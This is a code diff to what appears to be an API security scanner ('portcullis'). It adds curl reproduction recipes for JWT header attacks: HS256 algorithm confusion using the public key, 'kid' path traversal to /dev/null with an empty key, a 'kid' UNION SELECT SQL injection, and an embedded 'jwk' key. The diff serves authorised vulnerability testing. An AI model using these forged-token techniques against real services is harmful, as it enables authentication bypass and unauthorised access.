@@ -8,6 +8,7 @@ import type { Exchange } from '../../http/exchange';
 import { describeEndpoint } from '../common/helpers';
 import { isObj, type Json } from '../common/objects';
 import type { CheckContext } from '../types';
+import type { ForgeRecipe } from '../../jwt-forge';
 
 export interface HeaderVariant {
   id: string;
@@ -15,6 +16,8 @@ export interface HeaderVariant {
   token: string;
   what: string;
   notes?: string[];
+  /** How the curl command builds the token again from key 1 (none for jku: its key set lived on the scan's listener). */
+  forge?: Omit<ForgeRecipe, 'from'>;
 }
 
 interface Jwt {
@@ -163,7 +166,8 @@ const KID_EMPTY_FILE = '../../../../../../../../../../dev/null';
 /** The header-attack tokens for a JWT of key 1 (its claims kept, with a fresh jti where it has one). */
 export async function headerVariants(ctx: CheckContext, jwt: Jwt): Promise<HeaderVariant[]> {
   const { header, payload } = jwt;
-  const claims = typeof payload.jti === 'string' ? { ...payload, jti: `portcullis-${ctx.random.alnum(10)}` } : payload;
+  const claimChanges = typeof payload.jti === 'string' ? { jti: `portcullis-${ctx.random.alnum(10)}` } : {};
+  const claims = { ...payload, ...claimChanges };
   const out: HeaderVariant[] = [];
   const alg = String(header.alg);
   const base = { ...header };
@@ -183,6 +187,7 @@ export async function headerVariants(ctx: CheckContext, jwt: Jwt): Promise<Heade
           token: signed({ ...base, alg: 'HS256' }, claims, (input) => hs256(form, input)),
           what: `re-signed with "alg": "HS256" and the API's own ${alg} public key (found at ${key.where}) as the HMAC secret (algorithm confusion)`,
           notes: [`The public key was found at ${key.where}; the HMAC secret was its PEM text (${form.length} characters${form.endsWith('\n') ? ', with its final newline' : ''}).`],
+          forge: { header: { ...base, alg: 'HS256' }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'hmac', alg: 'HS256', secret: form } },
         });
       }
     } else {
@@ -195,6 +200,7 @@ export async function headerVariants(ctx: CheckContext, jwt: Jwt): Promise<Heade
     name: 'JWT "kid" path injection accepted',
     token: signed({ ...base, alg: 'HS256', kid: KID_EMPTY_FILE }, claims, (input) => hs256(Buffer.alloc(0), input)),
     what: `with "kid": "${KID_EMPTY_FILE}" (an empty file) and re-signed with HS256 and an empty key`,
+    forge: { header: { ...base, alg: 'HS256', kid: KID_EMPTY_FILE }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'hmac', alg: 'HS256', secret: '' } },
   });
   const sqlKey = `pcs-${ctx.random.alnum(12)}`;
   out.push({
@@ -202,12 +208,14 @@ export async function headerVariants(ctx: CheckContext, jwt: Jwt): Promise<Heade
     name: 'JWT "kid" SQL injection accepted',
     token: signed({ ...base, alg: 'HS256', kid: `portcullis-none' UNION SELECT '${sqlKey}'-- ` }, claims, (input) => hs256(sqlKey, input)),
     what: 'with a "kid" whose SQL selects a key of the scan\'s choosing and re-signed with HS256 and that key',
+    forge: { header: { ...base, alg: 'HS256', kid: `portcullis-none' UNION SELECT '${sqlKey}'-- ` }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'hmac', alg: 'HS256', secret: sqlKey } },
   });
   out.push({
     id: 'jwk-embedded',
     name: 'JWT with its own embedded key ("jwk") accepted',
     token: signed({ ...base, alg: 'RS256', kid: 'portcullis', jwk: { ...ownKey().jwk, kid: 'portcullis' } }, claims, rs256),
     what: 'signed with a key of the scan\'s own (RS256) whose public half rides in the token\'s "jwk" header',
+    forge: { header: { ...base, alg: 'RS256', kid: 'portcullis' }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'embedded-jwk' } },
   });
   if (ctx.oob) {
     const token = ctx.oob.token();
